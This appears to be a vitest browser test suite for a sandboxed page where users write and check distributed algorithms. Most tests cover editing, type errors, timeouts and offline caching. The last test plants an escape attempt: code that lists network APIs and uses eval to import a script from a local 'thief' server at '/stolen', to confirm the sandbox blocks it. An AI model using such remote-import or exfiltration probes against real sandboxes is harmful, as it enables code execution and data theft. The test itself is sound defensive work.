import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { deflateRawSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { LONG } from '../../../../test/extent.ts'
import { type Page as Served, servePage } from '../../../cli/src/page/page-server.ts'
import { seriousFindings } from './browser.ts'
import { inBrowser } from './in-browser.ts'

const RIGHT = new URL('../../../algorithms/src/permission/central-coordinator.ts', import.meta.url)

/** A text as an address carries it. */
const carried = (text: string) => `z${deflateRawSync(JSON.stringify([text])).toString('base64url')}`

inBrowser('the room to write in', (lab) => {
  let served: Served
  beforeAll(async () => {
    // Under the policy that a mesh's page has.
    const view = () => ({}) as never
    const address = { host: '127.0.0.1', port: 0 }
    served = await servePage({ address, view, act: () => null, recordingOf: () => [] })
  })
  afterAll(() => served.close())
  const at = (fragment: string) => served.url.replace('#/live', fragment)

  test('a broken rule is found, its run opens in the theatre, and the mended text passes', async () => {
    const page = await lab.open(at('#/write?from=exercise:the-desk'))
    await page.getByRole('heading', { name: '✗ A property fails' }).waitFor()
    await page.getByRole('link', { name: 'Watch it in the theatre' }).click()
    await page.getByText('Nodes 0, 1 are inside together').first().waitFor()
    await page.locator('.panel', { hasText: 'desk' }).waitFor()
    await page.goBack()
    await page.locator('.cm-content').click()
    await page.keyboard.press('Control+A')
    await page.keyboard.insertText(readFileSync(RIGHT, 'utf8'))
    await page.getByRole('heading', { name: '✓ Everything holds' }).waitFor()
    await page.getByText('World 2 of 2 of the exercise').waitFor()
    // Keys of the page are letters here.
    await page.keyboard.type('export cost?')
    expect(await page.getByRole('dialog').count()).toBe(0)
    await page.getByText(/^Line \d+: Unexpected token/).waitFor()
  })

  test(
    'a sandbox that a text has ended is told after ten seconds, and the next text gets another',
    LONG,
    async () => {
      const page = await lab.open(at('#/write?from=central-coordinator'), { apart: true })
      await page.getByRole('heading', { name: '✓ Everything holds' }).waitFor()
      const sandbox = page.locator('iframe[title=Sandbox]')
      // A full memory ends the process of the frame, and the frame is there without its script. Here it loses the script alone.
      const first = await sandbox.elementHandle()
      await sandbox.evaluate(
        (frame: HTMLIFrameElement) =>
          new Promise((gone) => {
            frame.addEventListener('load', gone, { once: true })
            frame.src = 'about:blank'
          }),
      )
      await page.clock.install()
      await page.locator('.cm-content').click()
      await page.keyboard.press('Control+End')
      await page.keyboard.type(' ')
      await page.locator('.write-outcome[aria-busy="true"]').waitFor()
      await page.clock.fastForward(11_000)
      await page.getByText(/ended after 10 s: nothing is proved/).waitFor()
      expect(await sandbox.count()).toBe(0)
      await page.keyboard.type(' ')
      await page.getByRole('heading', { name: '✓ Everything holds' }).waitFor()
      expect(await sandbox.count()).toBe(1)
      expect(await first?.evaluate((frame) => frame.isConnected)).toBe(false)
    },
  )

  test(
    'types that do not fit are marked in the text and listed, and the text is checked all the same',
    LONG,
    async () => {
      const page = await lab.open(at('#/write?from=ricart-agrawala'))
      await page.getByRole('heading', { name: '✓ The types fit' }).waitFor()
      await page.locator('.cm-content').click()
      await page.keyboard.press('Control+Home')
      await page.keyboard.insertText('export const wrong: number = "x"\n')
      await page.getByText("Line 1: Type 'string' is not assignable to type 'number'.").waitFor()
      await page.locator('.write-outcome[aria-busy="false"]').waitFor()
      await page.getByRole('heading', { name: '✓ Everything holds' }).waitFor()
      await expect.poll(() => page.locator('.cm-lintRange-error').allInnerTexts()).toEqual(['wrong'])
      await expect.poll(() => page.locator('.cm-gutter-lint .cm-lint-marker-error').count()).toBe(1)
      expect(await seriousFindings(page)).toEqual([])
    },
  )

  test(
    'once it was used, the compiler is there without a server; before, it is not fetched',
    LONG,
    async () => {
      const page = await lab.open('#/theatre?at=1', { offline: true })
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
      const kept = () =>
        page.evaluate(async () => {
          const [name = ''] = await caches.keys()
          const requests = await (await caches.open(name)).keys()
          return requests.filter(({ url }) => url.includes('types.worker')).length
        })
      expect(await kept()).toBe(0)
      await page.getByRole('link', { name: 'Write', exact: true }).click()
      await page.getByRole('heading', { name: '✓ The types fit' }).waitFor()
      await expect.poll(kept).toBe(1)
      lab.network.isDown = true
      await page.reload()
      await page.getByRole('heading', { name: '✓ The types fit' }).waitFor()
      lab.network.isDown = false
    },
  )

  test.each([
    ['a plain web server', (fragment: string) => fragment],
    ['the page of a mesh', at],
  ])('a text of a link waits for the visitor, and reaches nothing: %s', async (_, from) => {
    const reached: string[] = []
    const thief = createServer(({ url = '' }, response) => {
      reached.push(url)
      response.setHeader('access-control-allow-origin', '*')
      response.setHeader('content-type', 'text/javascript')
      response.end()
    }).listen(0, '127.0.0.1')
    await once(thief, 'listening')
    const { port } = thief.address() as AddressInfo
    const text = `const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport', 'EventSource', 'importScripts', 'caches', 'indexedDB', 'Worker', 'SharedWorker', 'BroadcastChannel', 'RTCPeerConnection', 'FontFace', 'fonts']
const isBeacon = 'sendBeacon' in navigator
;(0, eval)('import("http://127.0.0.1:${port}/stolen").then(() => console.error("open"), () => console.error("shut"))')
throw new Error('reached ' + (names.filter((name) => name in self).length + Number(isBeacon)) + ' from ' + self.origin)`
    const page = await lab.open(from(`#/write?text=${carried(text)}`))
    await page.getByRole('heading', { name: 'This link carries an algorithm. Run it?' }).waitFor()
    await page.getByText('throw new Error').waitFor()
    expect(await page.locator('iframe').count()).toBe(0)
    await page.getByRole('button', { name: 'Run it' }).click()
    await page.getByText('Line 4: Error: reached 0 from null').waitFor()
    await expect.poll(() => lab.complaints.splice(0)).toEqual(['shut'])
    expect(reached).toEqual([])
    thief.close()
    expect(new URL(page.url()).hash).toBe('#/write?from=link')
  })
})
